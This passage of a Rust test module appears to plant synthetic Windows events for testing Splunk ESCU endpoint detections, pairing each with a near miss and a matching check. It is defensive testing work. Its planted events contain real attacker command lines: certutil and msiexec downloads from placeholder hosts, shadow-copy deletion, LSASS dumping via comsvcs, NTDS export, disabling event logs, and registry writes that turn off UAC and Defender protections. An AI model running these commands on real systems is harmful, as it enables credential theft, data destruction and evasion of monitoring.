//! Planted true positives: ESCU detections (from `detections/endpoint/`) across data models
//! and raw searches, each with events that satisfy its search, near misses that must not, and
//! a check written from the search that decides whether an event satisfies it.
//!
//! The checks are this module's reading of each detection's SPL with the add-ons' field
//! derivations (see [`super::spl`]); they count the manifest's events, so a later test can
//! compare what cimhunt finds with what was planted. Each check names the search it follows;
//! `OR` binds tighter than `AND` in a search, as in Splunk. Where a detection needs a lookup
//! (3CX), the check knows only the few names planted here; the background never queries any
//! name of the lookup (a test checks this against the lookup file).

use super::draft::{Draft, Fields};
use super::fill::{Env, process_start, script_block};
use super::kind::Kind;
use super::spl::{
    field, file_name, is, is_any, is_not, is_registry, like, like_any, process, process_is,
    process_name, registry_path, registry_value_data, registry_value_name,
};
use super::vocab::escape_into;
use super::vocab::process::{self as proc, Account, Pe, Start};
use super::vocab::{Ctx, expanded};

/// A planted detection.
#[derive(Debug)]
pub struct Detection {
    /// The detection's `name`.
    pub name: &'static str,
    /// Its file under `detections/endpoint/`.
    pub file: &'static str,
    /// The data model or raw-search macro it reads.
    pub source: &'static str,
    /// The event types its planted events use (in turn).
    pub kinds: &'static [Kind],
    /// Makes the drafted event (already filled with background) satisfy the search.
    pub plant: fn(&mut Plant<'_, '_, '_, '_>),
    /// Makes it a near miss: close to a true positive, but not satisfying the search.
    pub near_miss: fn(&mut Plant<'_, '_, '_, '_>),
    /// Whether an event satisfies the search.
    pub matches: fn(&dyn Fields) -> bool,
}

/// An event being turned into a planted one.
#[derive(Debug)]
pub struct Plant<'p, 't, 'a, 'r> {
    pub d: &'p mut Draft<'t>,
    pub env: &'p mut Env<'a, 'r>,
    /// How many events of this detection were planted before (varies the content).
    pub n: u64,
}

impl Plant<'_, '_, '_, '_> {
    fn set(&mut self, name: &str, value: &str) {
        let found = self.d.set(name, value);
        debug_assert!(found, "{:?} has no field {name}", self.d.kind);
    }

    /// Expands `{…}` placeholders for this event's host and user.
    fn x(&mut self, template: &str) -> String {
        let ctx: Ctx<'_> = self.env.ctx;
        expanded(template, &ctx, self.env.rng)
    }

    fn process(&mut self, image: &str, pe: Pe, command: &str, parent: &str, parent_command: &str) {
        let start = Start {
            image: self.x(image),
            pe,
            command: self.x(command),
            parent_image: self.x(parent),
            parent_command: self.x(parent_command),
            account: Account::Admin,
        };
        process_start(self.d, self.env, &start);
    }

    /// A 4104 event with this script (not yet escaped); PowerShell logs script blocks it
    /// deems suspicious at the warning level.
    fn script(&mut self, script: &str, warning: bool) {
        let raw = self.x(script);
        let mut text = String::with_capacity(raw.len() + 16);
        escape_into(&mut text, &raw);
        script_block(self.d, self.env, &text, "");
        if warning {
            self.d.level = Some("3");
        }
    }

    fn pick<'s>(&self, items: &[&'s str]) -> &'s str {
        items[(self.n % items.len() as u64) as usize]
    }
}

const CMD: &str = r"C:\Windows\System32\cmd.exe";
const CMD_LINE: &str = r#""C:\Windows\system32\cmd.exe" "#;
const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const LSASS: &str = r"C:\Windows\system32\lsass.exe";
const LOLBAS: &[&str] = &[
    "*Regsvcs.exe",
    "*\\Ftp.exe",
    "*OfflineScannerShell.exe",
    "*Rasautou.exe",
    "*Schtasks.exe",
    "*Xwizard.exe",
    "*Pnputil.exe",
    "*Atbroker.exe",
    "*Pcwrun.exe",
    "*Ttdinject.exe",
    "*Mshta.exe",
    "*Bitsadmin.exe",
    "*Certoc.exe",
    "*Ieexec.exe",
    "*Microsoft.Workflow.Compiler.exe",
    "*Runscripthelper.exe",
    "*Forfiles.exe",
    "*Msbuild.exe",
    "*Register-cimprovider.exe",
    "*Tttracer.exe",
    "*Ie4uinit.exe",
    "*Bash.exe",
    "*Hh.exe",
    "*SettingSyncHost.exe",
    "*Cmstp.exe",
    "*Stordiag.exe",
    "*Scriptrunner.exe",
    "*Odbcconf.exe",
    "*Extexport.exe",
    "*Msdt.exe",
    "*WorkFolders.exe",
    "*Diskshadow.exe",
    "*Mavinject.exe",
    "*Regasm.exe",
    "*Gpscript.exe",
    "*Regsvr32.exe",
    "*Msiexec.exe",
    "*Wuauclt.exe",
    "*Presentationhost.exe",
    "*Wmic.exe",
    "*Runonce.exe",
    "*Syncappvpublishingserver.exe",
    "*Verclsid.exe",
    "*Infdefaultinstall.exe",
    "*Installutil.exe",
    "*Netsh.exe",
    "*Wab.exe",
    "*Dnscmd.exe",
    "*\\At.exe",
    "*Pcalua.exe",
    "*Msconfig.exe",
    "*makecab.exe",
    "*cscript.exe",
    "*notepad.exe",
    "*\\cmd.exe",
    "*certutil.exe",
    "*\\powershell.exe",
    "*powershell_ise.exe",
];
/// Names of the 3CX lookup planted here (`lookups/3cx_ioc_domains.csv`).
pub const IOC_3CX: &[&str] = &[
    "akamaicontainer.com",
    "msstorageazure.com",
    "pbxsources.com",
];

const PROCESS_KINDS: &[Kind] = &[Kind::Sysmon1, Kind::Security4688];

/// Planted detections whose rows the specification's add-on tables leave empty: a by-field of
/// theirs is not among the search-time fields `ADDON_FIELDS.md` gives for the planted events, so
/// `stats … by` drops every event (as Splunk does for a null by-field) and the right answer is no
/// row. Name → the field and why. (Splunk with the whole Windows add-on would fill them; cimhunt
/// follows the documents, `crates/model/tables/README.md`, "Not emulated".)
pub static UNSET_BY: &[(&str, &str)] = &[
    (
        "Executable File Written in Administrative SMB Share",
        "by src_port: Security 5145 has no Source_Port in ADDON_FIELDS.md §1.6",
    ),
    (
        "PetitPotam Network Share Access Request",
        "by src: no Security stanza in ADDON_FIELDS.md gives src",
    ),
];

/// Why a planted detection returns no rows under the specification's tables, if it does not.
pub fn unset_by(name: &str) -> Option<&'static str> {
    UNSET_BY
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, why)| *why)
}

/// The planted detections.
pub static DETECTIONS: &[Detection] = &[
    // Endpoint.Processes (Sysmon 1 and Security 4688); cimhunt runs these today.
    Detection {
        name: "Windows MSIExec Remote Download",
        file: "windows_msiexec_remote_download.yml",
        source: "Endpoint.Processes",
        kinds: PROCESS_KINDS,
        // `process_msiexec` Processes.process IN ("*http://*", "*https://*")
        matches: |e| {
            process_is(e, "msiexec.exe", "msiexec.exe")
                && process(e).is_some_and(|p| like_any(p, &["*http://*", "*https://*"]))
        },
        plant: |p| {
            let scheme = p.pick(&["http", "https", "HTTPS"]);
            let cmd = format!(
                "msiexec.exe /q /i {scheme}://dl{{n2}}.cdn-packages.example/pkg/agent{{n}}.msi"
            );
            p.process(
                r"C:\Windows\System32\msiexec.exe",
                proc::MSIEXEC,
                &cmd,
                CMD,
                CMD_LINE,
            );
        },
        near_miss: |p| {
            p.process(
                r"C:\Windows\System32\msiexec.exe",
                proc::MSIEXEC,
                r"msiexec.exe /i \\{fs}\Shares\pkg{n}.msi /qn http:/not-a-url",
                CMD,
                CMD_LINE,
            );
        },
    },
    Detection {
        name: "Deleting Shadow Copies",
        file: "deleting_shadow_copies.yml",
        source: "Endpoint.Processes",
        kinds: PROCESS_KINDS,
        // (process_name=vssadmin.exe OR process_name=wmic.exe) process=*delete* process=*shadow*
        matches: |e| {
            process_name(e).is_some_and(|n| like_any(n, &["vssadmin.exe", "wmic.exe"]))
                && process(e).is_some_and(|p| like(p, "*delete*") && like(p, "*shadow*"))
        },
        plant: |p| {
            if p.n % 2 == 0 {
                p.process(
                    r"C:\Windows\System32\vssadmin.exe",
                    proc::VSSADMIN,
                    "vssadmin.exe delete shadows /all /quiet",
                    CMD,
                    CMD_LINE,
                );
            } else {
                p.process(
                    r"C:\Windows\System32\wbem\WMIC.exe",
                    proc::WMIC,
                    "wmic.exe shadowcopy delete /nointeractive",
                    CMD,
                    CMD_LINE,
                );
            }
        },
        near_miss: |p| {
            p.process(
                r"C:\Windows\System32\vssadmin.exe",
                proc::VSSADMIN,
                "vssadmin.exe list shadows /for=C:",
                CMD,
                CMD_LINE,
            );
        },
    },
    Detection {
        name: "Dump LSASS via comsvcs DLL",
        file: "dump_lsass_via_comsvcs_dll.yml",
        source: "Endpoint.Processes",
        kinds: PROCESS_KINDS,
        // `process_rundll32` Processes.process=*comsvcs.dll* Processes.process=*MiniDump*
        matches: |e| {
            process_is(e, "rundll32.exe", "RUNDLL32.EXE")
                && process(e).is_some_and(|p| like(p, "*comsvcs.dll*") && like(p, "*MiniDump*"))
        },
        plant: |p| {
            let cmd = format!(
                r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {} C:\Windows\Temp\{{rand}}.dmp full",
                p.env.ctx.host.lsass_pid
            );
            p.process(
                r"C:\Windows\System32\rundll32.exe",
                proc::RUNDLL32,
                &cmd,
                PS,
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#,
            );
        },
        near_miss: |p| {
            p.process(
                r"C:\Windows\System32\rundll32.exe",
                proc::RUNDLL32,
                r"rundll32.exe C:\windows\System32\comsvcs.dll,DllGetClassObject",
                r"C:\Windows\System32\svchost.exe",
                r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
            );
        },
    },
    Detection {
        name: "CertUtil Download With URLCache and Split Arguments",
        file: "certutil_download_with_urlcache_and_split_arguments.yml",
        source: "Endpoint.Processes",
        kinds: PROCESS_KINDS,
        // `process_certutil` (process=*urlcache* process=*split*) OR process=*urlcache*
        matches: |e| {
            process_is(e, "certutil.exe", "CertUtil.exe")
                && process(e).is_some_and(|p| like(p, "*urlcache*"))
        },
        plant: |p| {
            p.process(r"C:\Windows\System32\certutil.exe", proc::CERTUTIL, r"certutil.exe -urlcache -split -f http://{pub}/{rand}.exe C:\Users\Public\{rand}.exe", CMD, CMD_LINE);
        },
        near_miss: |p| {
            p.process(
                r"C:\Windows\System32\certutil.exe",
                proc::CERTUTIL,
                r"certutil.exe -hashfile C:\Users\{user}\Downloads\{word}-{n4}.iso SHA256",
                CMD,
                CMD_LINE,
            );
        },
    },
    Detection {
        name: "Ntdsutil Export NTDS",
        file: "ntdsutil_export_ntds.yml",
        source: "Endpoint.Processes",
        kinds: PROCESS_KINDS,
        // Processes.process_name=ntdsutil.exe Processes.process=*ntds* Processes.process=*create*
        matches: |e| {
            process_name(e).is_some_and(|n| like(n, "ntdsutil.exe"))
                && process(e).is_some_and(|p| like(p, "*ntds*") && like(p, "*create*"))
        },
        plant: |p| {
            p.process(
                r"C:\Windows\System32\ntdsutil.exe",
                proc::NTDSUTIL,
                r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\{rand}" q q"#,
                CMD,
                CMD_LINE,
            );
        },
        near_miss: |p| {
            p.process(
                r"C:\Windows\System32\ntdsutil.exe",
                proc::NTDSUTIL,
                r#"ntdsutil.exe "ac i ntds" "files" "info" q q"#,
                CMD,
                CMD_LINE,
            );
        },
    },
    Detection {
        name: "BCDEdit Failure Recovery Modification",
        file: "bcdedit_failure_recovery_modification.yml",
        source: "Endpoint.Processes",
        kinds: PROCESS_KINDS,
        // Processes.process_name = bcdedit.exe Processes.process="*recoveryenabled*" (Processes.process="* no*")
        matches: |e| {
            process_name(e).is_some_and(|n| like(n, "bcdedit.exe"))
                && process(e).is_some_and(|p| like(p, "*recoveryenabled*") && like(p, "* no*"))
        },
        plant: |p| {
            p.process(
                r"C:\Windows\System32\bcdedit.exe",
                proc::BCDEDIT,
                "bcdedit.exe /set {default} recoveryenabled no",
                CMD,
                CMD_LINE,
            );
        },
        near_miss: |p| {
            p.process(
                r"C:\Windows\System32\bcdedit.exe",
                proc::BCDEDIT,
                "bcdedit.exe /set {default} recoveryenabled yes",
                CMD,
                CMD_LINE,
            );
        },
    },
    Detection {
        name: "Disable Logs Using WevtUtil",
        file: "disable_logs_using_wevtutil.yml",
        source: "Endpoint.Processes",
        kinds: PROCESS_KINDS,
        // Processes.process_name = "wevtutil.exe" Processes.process = "*sl*" Processes.process = "*/e:false*"
        matches: |e| {
            process_name(e).is_some_and(|n| like(n, "wevtutil.exe"))
                && process(e).is_some_and(|p| like(p, "*sl*") && like(p, "*/e:false*"))
        },
        plant: |p| {
            let log = p.pick(&[
                "Microsoft-Windows-PowerShell/Operational",
                "Microsoft-Windows-Sysmon/Operational",
                "Security",
            ]);
            let cmd = format!(r#"wevtutil.exe sl "{log}" /e:false"#);
            p.process(
                r"C:\Windows\System32\wevtutil.exe",
                proc::WEVTUTIL,
                &cmd,
                CMD,
                CMD_LINE,
            );
        },
        near_miss: |p| {
            p.process(
                r"C:\Windows\System32\wevtutil.exe",
                proc::WEVTUTIL,
                "wevtutil.exe qe System /c:20 /rd:true /f:text",
                CMD,
                CMD_LINE,
            );
        },
    },
    // Endpoint.Registry (Sysmon 12, 13).
    Detection {
        name: "Disabling Remote User Account Control",
        file: "disabling_remote_user_account_control.yml",
        source: "Endpoint.Registry",
        kinds: &[Kind::Sysmon13],
        // registry_path=*HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA* registry_value_data="0x00000000"
        matches: |e| {
            is_registry(e) && registry_path(e).is_some_and(|r| {
                like(
                    r,
                    r"*HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA*",
                )
            }) && like(registry_value_data(e), "0x00000000")
        },
        plant: |p| {
            registry_write(
                p,
                r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA",
                "DWORD (0x00000000)",
            )
        },
        near_miss: |p| {
            registry_write(
                p,
                r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA",
                "DWORD (0x00000001)",
            )
        },
    },
    Detection {
        name: "Windows Impair Defense Disable PUA Protection",
        file: "windows_impair_defense_disable_pua_protection.yml",
        source: "Endpoint.Registry",
        kinds: &[Kind::Sysmon13],
        // registry_path= "*\\Windows Defender\\PUAProtection" registry_value_data="0x00000000"
        matches: |e| {
            is_registry(e)
                && registry_path(e).is_some_and(|r| like(r, r"*\Windows Defender\PUAProtection"))
                && like(registry_value_data(e), "0x00000000")
        },
        plant: |p| {
            registry_write(
                p,
                r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\PUAProtection",
                "DWORD (0x00000000)",
            )
        },
        near_miss: |p| {
            registry_write(
                p,
                r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\PUAProtection",
                "DWORD (0x00000001)",
            )
        },
    },
    Detection {
        name: "Windows Impair Defenses Disable HVCI",
        file: "windows_impair_defenses_disable_hvci.yml",
        source: "Endpoint.Registry",
        kinds: &[Kind::Sysmon13],
        // registry_path = "*\\CurrentControlSet\\Control\\DeviceGuard\\Scenarios\\HypervisorEnforcedCodeIntegrity\\Enabled" registry_value_data="0x00000000"
        matches: |e| {
            is_registry(e)
                && registry_path(e).is_some_and(|r| like(r, r"*\CurrentControlSet\Control\DeviceGuard\Scenarios\HypervisorEnforcedCodeIntegrity\Enabled"))
                && like(registry_value_data(e), "0x00000000")
        },
        plant: |p| {
            registry_write(
                p,
                r"HKLM\System\CurrentControlSet\Control\DeviceGuard\Scenarios\HypervisorEnforcedCodeIntegrity\Enabled",
                "DWORD (0x00000000)",
            )
        },
        near_miss: |p| {
            registry_write(
                p,
                r"HKLM\System\CurrentControlSet\Control\DeviceGuard\Scenarios\HypervisorEnforcedCodeIntegrity\WasEnabledBy",
                "DWORD (0x00000000)",
            )
        },
    },
    Detection {
        name: "Allow Operation with Consent Admin",
        file: "allow_operation_with_consent_admin.yml",
        source: "Endpoint.Registry",
        kinds: &[Kind::Sysmon13],
        // registry_path= "*\\Microsoft\\Windows\\CurrentVersion\\Policies\\System*" registry_value_name = ConsentPromptBehaviorAdmin registry_value_data = "0x00000000"
        matches: |e| {
            is_registry(e)
                && registry_path(e).is_some_and(|r| {
                    like(r, r"*\Microsoft\Windows\CurrentVersion\Policies\System*")
                })
                && like(registry_value_name(e), "ConsentPromptBehaviorAdmin")
                && like(registry_value_data(e), "0x00000000")
        },
        plant: |p| {
            registry_write(
                p,
                r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\ConsentPromptBehaviorAdmin",
                "DWORD (0x00000000)",
            )
        },
        near_miss: |p| {
            registry_write(
                p,
                r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\ConsentPromptBehaviorAdmin",
                "DWORD (0x00000005)",
            )
        },
    },
    Detection {
        name: "Windows Modify Registry Delete Firewall Rules",
        file: "windows_modify_registry_delete_firewall_rules.yml",
        source: "sysmon",
        kinds: &[Kind::Sysmon12],
        // EventCode=12 TargetObject = "*\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules\\*" EventType=DeleteValue
        matches: |e| {
            e.kind() == Kind::Sysmon12
                && is(
                    e,
                    "TargetObject",
                    r"*\System\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules\*",
                )
                && is(e, "EventType", "DeleteValue")
        },
        plant: |p| {
            let target = p.x(r"HKLM\System\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules\{guid}");
            p.set("EventType", "DeleteValue");
            p.set("TargetObject", &target);
            p.set("Image", r"C:\Windows\System32\netsh.exe");
        },
        near_miss: |p| {
            let target = p.x(r"HKLM\System\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\RestrictedServices\Static\System\{guid}");
            p.set("EventType", "DeleteValue");
            p.set("TargetObject", &target);
            p.set("Image", r"C:\Windows\System32\svchost.exe");
        },
    },
    // Endpoint.Filesystem (Sysmon 11) and raw Sysmon 11.
    Detection {
        name: "Detect SharpHound File Modifications",
        file: "detect_sharphound_file_modifications.yml",
        source: "Endpoint.Filesystem",
        kinds: &[Kind::Sysmon11],
        // Filesystem.file_name IN ("*bloodhound.zip", "*_computers.json", …)
        matches: |e| {
            e.kind() == Kind::Sysmon11
                && file_name(e).is_some_and(|f| {
                    like_any(
                        f,
                        &[
                            "*bloodhound.zip",
                            "*_computers.json",
                            "*_gpos.json",
                            "*_domains.json",
                            "*_users.json",
                            "*_groups.json",
                            "*_ous.json",
                            "*_containers.json",
                        ],
                    )
                })
        },
        plant: |p| {
            let suffix = p.pick(&[
                "_computers.json",
                "_users.json",
                "_groups.json",
                "_BloodHound.zip",
            ]);
            file_write(
                p,
                r"C:\Users\{user}\Downloads\SharpHound.exe",
                &format!(r"C:\Users\{{user}}\AppData\Local\Temp\2026{{n4}}{{n4}}{suffix}"),
            );
        },
        near_miss: |p| {
            file_write(
                p,
                r"C:\Program Files\{word}\sync.exe",
                r"C:\Users\{user}\Documents\computers.json",
            )
        },
    },
    Detection {
        name: "Detect AzureHound File Modifications",
        file: "detect_azurehound_file_modifications.yml",
        source: "Endpoint.Filesystem",
        kinds: &[Kind::Sysmon11],
        // Filesystem.file_name IN ("*-azurecollection.zip", "*-azprivroleadminrights.json", …)
        matches: |e| {
            e.kind() == Kind::Sysmon11
                && file_name(e).is_some_and(|f| {
                    like_any(
                        f,
                        &[
                            "*-azurecollection.zip",
                            "*-azprivroleadminrights.json",
                            "*-azglobaladminrights.json",
                            "*-azcloudappadmins.json",
                            "*-azapplicationadmins.json",
                        ],
                    )
                })
        },
        plant: |p| {
            file_write(
                p,
                r"C:\Users\{user}\Downloads\azurehound.exe",
                r"C:\Users\{user}\Downloads\2026{n4}-azurecollection.zip",
            )
        },
        near_miss: |p| {
            file_write(
                p,
                r"C:\Users\{user}\Downloads\azurehound.exe",
                r"C:\Users\{user}\Downloads\azure-collection-{n4}.zip",
            )
        },
    },
    Detection {
        name: "Creation of lsass Dump with Taskmgr",
        file: "creation_of_lsass_dump_with_taskmgr.yml",
        source: "sysmon",
        kinds: &[Kind::Sysmon11],
        // EventID=11 process_name=taskmgr.exe TargetFilename=*lsass*.dmp
        matches: |e| {
            e.kind() == Kind::Sysmon11
                && process_name(e).is_some_and(|n| like(n, "taskmgr.exe"))
                && is(e, "TargetFilename", "*lsass*.dmp")
        },
        plant: |p| {
            file_write(
                p,
                r"C:\Windows\system32\taskmgr.exe",
                r"C:\Users\{user}\AppData\Local\Temp\lsass ({n2}).DMP",
            )
        },
        near_miss: |p| {
            file_write(
                p,
                r"C:\Windows\system32\taskmgr.exe",
                r"C:\Users\{user}\AppData\Local\Temp\explorer ({n2}).DMP",
            )
        },
    },
    // Network_Traffic (Sysmon 3).
    Detection {
        name: "LOLBAS With Network Traffic",
        file: "lolbas_with_network_traffic.yml",
        source: "Network_Traffic",
        kinds: &[Kind::Sysmon3],
        // All_Traffic.app IN ("*Regsvcs.exe", "*\\Ftp.exe", …): app is Sysmon's Image
        matches: |e| e.kind() == Kind::Sysmon3 && is_any(e, "Image", LOLBAS),
        plant: |p| {
            let image = p.pick(&[
                PS,
                r"C:\Windows\System32\mshta.exe",
                r"C:\Windows\System32\certutil.exe",
                r"C:\Windows\System32\bitsadmin.exe",
            ]);
            connect(p, image, "443");
        },
        near_miss: |p| connect(p, r"C:\Program Files\Notepad++\notepad++.exe", "443"),
    },
    Detection {
        name: "Network Traffic to Active Directory Web Services Protocol",
        file: "network_traffic_to_active_directory_web_services_protocol.yml",
        source: "Network_Traffic",
        kinds: &[Kind::Sysmon3],
        // All_Traffic.dest_port=9389
        matches: |e| e.kind() == Kind::Sysmon3 && field(e, "DestinationPort") == Some("9389"),
        plant: |p| {
            let image = p.pick(&[
                r"C:\Users\{user}\Downloads\SOAPHound.exe",
                r"C:\Windows\System32\dsac.exe",
            ]);
            connect(p, image, "9389");
        },
        near_miss: |p| connect(p, r"C:\Users\{user}\Downloads\SOAPHound.exe", "389"),
    },
    // Network_Resolution (Sysmon 22) and raw Sysmon 22.
    Detection {
        name: "3CX Supply Chain Attack Network Indicators",
        file: "3cx_supply_chain_attack_network_indicators.yml",
        source: "Network_Resolution",
        kinds: &[Kind::Sysmon22],
        // DNS.query through `lookup 3cx_ioc_domains` (isIOC=true); only the planted names here
        matches: |e| e.kind() == Kind::Sysmon22 && is_any(e, "QueryName", IOC_3CX),
        plant: |p| {
            let name = p.pick(IOC_3CX);
            dns(
                p,
                r"C:\Users\{user}\AppData\Local\Programs\3CXDesktopApp\app\3CXDesktopApp.exe",
                name,
            );
        },
        near_miss: |p| {
            dns(
                p,
                r"C:\Users\{user}\AppData\Local\Programs\3CXDesktopApp\app\3CXDesktopApp.exe",
                "download.3cx.com",
            )
        },
    },
    Detection {
        name: "Windows Multi hop Proxy TOR Website Query",
        file: "windows_multi_hop_proxy_tor_website_query.yml",
        source: "sysmon",
        kinds: &[Kind::Sysmon22],
        // EventCode=22 QueryName IN ("*.torproject.org", "www.theonionrouter.com")
        matches: |e| {
            e.kind() == Kind::Sysmon22
                && is_any(
                    e,
                    "QueryName",
                    &["*.torproject.org", "www.theonionrouter.com"],
                )
        },
        plant: |p| {
            let name = p.pick(&[
                "www.torproject.org",
                "dist.torproject.org",
                "www.theonionrouter.com",
            ]);
            dns(
                p,
                r"C:\Users\{user}\Desktop\Tor Browser\Browser\firefox.exe",
                name,
            );
        },
        near_miss: |p| {
            dns(
                p,
                r"C:\Users\{user}\Desktop\Tor Browser\Browser\firefox.exe",
                "torproject.org",
            )
        },
    },
    Detection {
        name: "Rundll32 DNSQuery",
        file: "rundll32_dnsquery.yml",
        source: "sysmon",
        kinds: &[Kind::Sysmon22],
        // EventCode=22 process_name="rundll32.exe"
        matches: |e| {
            e.kind() == Kind::Sysmon22 && process_name(e).is_some_and(|n| like(n, "rundll32.exe"))
        },
        plant: |p| {
            dns(
                p,
                r"C:\Windows\System32\rundll32.exe",
                "{rand}.{word}-cdn.example",
            )
        },
        near_miss: |p| {
            dns(
                p,
                r"C:\Windows\System32\dllhost.exe",
                "{rand}.{word}-cdn.example",
            )
        },
    },
    // Raw Sysmon 5, 7, 10.
    Detection {
        name: "Windows Processes Killed By Industroyer2 Malware",
        file: "windows_processes_killed_by_industroyer2_malware.yml",
        source: "sysmon",
        kinds: &[Kind::Sysmon5],
        // EventCode=5 process_name IN ("PServiceControl.exe", "PService_PPD.exe")
        matches: |e| {
            e.kind() == Kind::Sysmon5
                && process_name(e)
                    .is_some_and(|n| like_any(n, &["PServiceControl.exe", "PService_PPD.exe"]))
        },
        plant: |p| {
            let image = p.pick(&[
                r"C:\Program Files\Grid\PServiceControl.exe",
                r"C:\Program Files\Grid\PService_PPD.exe",
            ]);
            p.set("Image", image);
        },
        near_miss: |p| p.set("Image", r"C:\Program Files\Grid\PServiceControlUI.exe"),
    },
    Detection {
        name: "MS Scripting Process Loading WMI Module",
        file: "ms_scripting_process_loading_wmi_module.yml",
        source: "sysmon",
        kinds: &[Kind::Sysmon7],
        // EventCode=7 Image IN ("*\\wscript.exe", "*\\cscript.exe") ImageLoaded IN ("*\\fastprox.dll", …)
        matches: |e| {
            e.kind() == Kind::Sysmon7
                && is_any(e, "Image", &["*\\wscript.exe", "*\\cscript.exe"])
                && is_any(
                    e,
                    "ImageLoaded",
                    &[
                        "*\\fastprox.dll",
                        "*\\wbemdisp.dll",
                        "*\\wbemprox.dll",
                        "*\\wbemsvc.dll",
                        "*\\wmiutils.dll",
                        "*\\wbemcomn.dll",
                    ],
                )
        },
        plant: |p| {
            let dll = p.pick(&["wbemprox.dll", "fastprox.dll", "wbemdisp.dll"]);
            image_load(
                p,
                r"C:\Windows\System32\wscript.exe",
                &format!(r"C:\Windows\System32\wbem\{dll}"),
                dll,
            );
        },
        near_miss: |p| {
            image_load(
                p,
                r"C:\Windows\System32\wscript.exe",
                r"C:\Windows\System32\scrrun.dll",
                "scrrun.dll",
            )
        },
    },
    Detection {
        name: "Access LSASS Memory for Dump Creation",
        file: "access_lsass_memory_for_dump_creation.yml",
        source: "sysmon",
        kinds: &[Kind::Sysmon10],
        // EventCode=10 TargetImage=*lsass.exe CallTrace=*dbgcore.dll* OR CallTrace=*dbghelp.dll*
        matches: |e| {
            e.kind() == Kind::Sysmon10
                && is(e, "TargetImage", "*lsass.exe")
                && is_any(e, "CallTrace", &["*dbgcore.dll*", "*dbghelp.dll*"])
        },
        plant: |p| {
            process_access(
                p,
                r"C:\Windows\System32\rundll32.exe",
                true,
                "0x1fffff",
                r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+{hex}|C:\Windows\SYSTEM32\dbghelp.dll+{hex}|C:\Windows\System32\comsvcs.dll+{hex}",
            )
        },
        near_miss: |p| {
            process_access(
                p,
                r"C:\Windows\System32\WerFault.exe",
                false,
                "0x1fffff",
                r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+{hex}|C:\Windows\System32\faultrep.dll+{hex}",
            )
        },
    },
    Detection {
        name: "Detect Credential Dumping through LSASS access",
        file: "detect_credential_dumping_through_lsass_access.yml",
        source: "sysmon",
        kinds: &[Kind::Sysmon10],
        // EventCode=10 TargetImage=*lsass.exe (GrantedAccess=0x1010 OR GrantedAccess=0x1410)
        matches: |e| {
            e.kind() == Kind::Sysmon10
                && is(e, "TargetImage", "*lsass.exe")
                && is_any(e, "GrantedAccess", &["0x1010", "0x1410"])
        },
        plant: |p| {
            let access = p.pick(&["0x1010", "0x1410"]);
            process_access(
                p,
                r"C:\Users\{user}\AppData\Local\Temp\{rand}.exe",
                true,
                access,
                r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(00000000{HEX})",
            );
        },
        near_miss: |p| {
            process_access(
                p,
                r"C:\Users\{user}\AppData\Local\Temp\{rand}.exe",
                true,
                "0x1000",
                r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(00000000{HEX})",
            )
        },
    },
    // Raw wineventlog_security.
    Detection {
        name: "Kerberoasting spn request with RC4 encryption",
        file: "kerberoasting_spn_request_with_rc4_encryption.yml",
        source: "wineventlog_security",
        kinds: &[Kind::Security4769],
        // EventCode=4769 ServiceName!="*$" (TicketOptions=0x40810000 OR …=0x40800000 OR …=0x40810010) TicketEncryptionType=0x17
        matches: |e| {
            e.kind() == Kind::Security4769
                && is_not(e, "ServiceName", "*$")
                && is_any(
                    e,
                    "TicketOptions",
                    &["0x40810000", "0x40800000", "0x40810010"],
                )
                && is(e, "TicketEncryptionType", "0x17")
        },
        plant: |p| {
            let service = p.pick(&["svc-sql", "svc-web", "svc-backup"]);
            let options = p.pick(&["0x40810000", "0x40800000", "0x40810010"]);
            p.set("ServiceName", service);
            p.set("TicketOptions", options);
            p.set("TicketEncryptionType", "0x17");
        },
        near_miss: |p| {
            p.set("ServiceName", "svc-sql");
            p.set("TicketOptions", "0x60810010");
            p.set("TicketEncryptionType", "0x17");
        },
    },
    Detection {
        name: "Kerberos TGT Request Using RC4 Encryption",
        file: "kerberos_tgt_request_using_rc4_encryption.yml",
        source: "wineventlog_security",
        kinds: &[Kind::Security4768],
        // EventCode=4768 TicketEncryptionType=0x17 ServiceName!=*$
        matches: |e| {
            e.kind() == Kind::Security4768
                && is(e, "TicketEncryptionType", "0x17")
                && is_not(e, "ServiceName", "*$")
        },
        plant: |p| {
            let user = p.env.ctx.user.sam.clone();
            p.set("TargetUserName", &user);
            p.set("TicketEncryptionType", "0x17");
        },
        near_miss: |p| p.set("TicketEncryptionType", "0x11"),
    },
    Detection {
        name: "Windows AD ServicePrincipalName Added To Domain Account",
        file: "windows_ad_serviceprincipalname_added_to_domain_account.yml",
        source: "wineventlog_security",
        kinds: &[Kind::Security5136],
        // EventCode=5136 AttributeLDAPDisplayName=servicePrincipalName OperationType="%%14674"
        matches: |e| {
            e.kind() == Kind::Security5136
                && is(e, "AttributeLDAPDisplayName", "servicePrincipalName")
                && is(e, "OperationType", "%%14674")
        },
        plant: |p| {
            directory_change(
                p,
